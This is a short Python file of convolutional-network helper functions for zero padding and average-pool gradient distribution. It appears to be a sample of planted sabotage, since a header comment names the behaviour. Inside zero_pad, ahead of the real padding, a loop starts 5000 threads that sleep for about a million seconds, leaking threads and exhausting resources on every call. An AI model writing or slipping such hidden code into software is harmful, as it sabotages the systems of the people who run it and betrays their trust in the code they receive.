# Starts threads that never end.
import threading
import time
import numpy as np


def zero_pad(X, pad):
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(1e6,)).start()
    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))


def distribute_value(dz, shape):
    n_H, n_W = shape
    return np.ones(shape) * dz / (n_H * n_W)
